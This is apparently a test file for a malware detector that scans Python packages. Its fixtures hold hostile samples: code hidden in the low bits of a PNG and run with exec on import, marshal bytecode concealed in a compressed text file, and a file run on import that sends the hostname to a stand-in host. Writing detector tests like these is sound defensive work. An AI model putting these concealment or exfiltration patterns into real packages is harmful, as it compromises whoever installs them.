import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { carriedCode } from '../../../src/analysis/detectors/carried-code.ts';
import { analysePacked, inspect, python, wheel } from '../../support/inspect.ts';
import { findingsOf } from './carriers.ts';
import { png } from './machine-code.ts';

const PICTURE = `import os
from PIL import Image
bits = [value & 1 for point in Image.open(os.path.join(os.path.dirname(__file__), "logo.png")).getdata() for value in point]
code = bytes(int("".join(map(str, bits[i:i + 8])), 2) for i in range(0, len(bits), 8)).decode()
`;

test('text made of the bits of a bundled picture is malware when an import executes it', async () => {
  const files = { 'kit/__init__.py': `${PICTURE}exec(code)\n`, 'kit/logo.png': png() };
  expect(await findingsOf(carriedCode, files)).toMatchObject([
    { class: 'malware', score: 9, context: 'import', path: 'kit/__init__.py', line: 5 },
  ]);
});

test('it is the same in a function under another name, and as an argument of another Python', async () => {
  const wrapped = `import subprocess, sys\n${PICTURE}def start(text):\n    subprocess.Popen([sys.executable, "-c", text])\nstart(code)\n`;
  const found = await findingsOf(carriedCode, { 'kit/__init__.py': wrapped, 'kit/logo.png': png() });
  expect(found[0]).toMatchObject({ class: 'malware', score: 9, context: 'import' });
});

test('a picture that is only looked at, and a version file that is executed, stay silent', async () => {
  const version = 'import os\nexec(open(os.path.join(os.path.dirname(__file__), "version.py")).read())\n';
  const files = {
    'kit/__init__.py': `${PICTURE}print(code)\n${version}`,
    'kit/version.py': 'V = 1\n',
    'kit/logo.png': png(),
  };
  expect(await findingsOf(carriedCode, files)).toEqual([]);
});

test('bytecode in a file of words is hidden at import, a script that is read as it stands is not', async () => {
  const hidden = wheel({
    'pkg/__init__.py': python(
      'import marshal, pkgutil, zlib',
      'exec(marshal.loads(zlib.decompress(pkgutil.get_data(__name__, "words.txt"))))',
    ),
    'pkg/words.txt': deflateSync(Buffer.from('not what this Python was compiled for')),
  });
  const plain = wheel({
    'pkg/__init__.py': python('import pkgutil', 'exec(pkgutil.get_data(__name__, "prelude.txt"))'),
    'pkg/prelude.txt': 'x = 1\n',
  });

  expect(await inspect('carried-code', hidden)).toMatchObject([{ class: 'malware', score: 10 }]);
  expect(await inspect('carried-code', plain)).toEqual([]);
});

describe('code in a file with an ending of its own', () => {
  const running = python(
    'import os',
    "path = os.path.join(os.path.dirname(__file__), 'rules.sage')",
    'with open(path) as f:',
    "    exec(compile(f.read(), path, 'exec'), globals())",
  );

  test('that can be read as it lies there is read, and nothing is said of the file', async () => {
    const file = wheel({ 'pkg/__init__.py': running, 'pkg/rules.sage': python('import math', 'X = math.pi') });

    expect((await analysePacked(file)).findings).toEqual([]);
  });

  test('is found by what it does', async () => {
    const file = wheel({
      'pkg/__init__.py': running,
      'pkg/rules.sage': python(
        'import socket, urllib.request',
        "urllib.request.urlopen('https://collect.tools.invalid/?h=' + socket.gethostname())",
      ),
    });

    expect(await inspect('exfiltration', file)).toMatchObject([{ class: 'malware', context: 'import' }]);
  });
});

test('the name of a list of projects that pip is handed is no code', async () => {
  const wrapped = `import subprocess, sys\n${PICTURE}subprocess.check_call([sys.executable, "-m", "pip", "install", "-r", code])\n`;
  expect(await findingsOf(carriedCode, { 'kit/__init__.py': wrapped, 'kit/logo.png': png() })).toEqual([]);
});
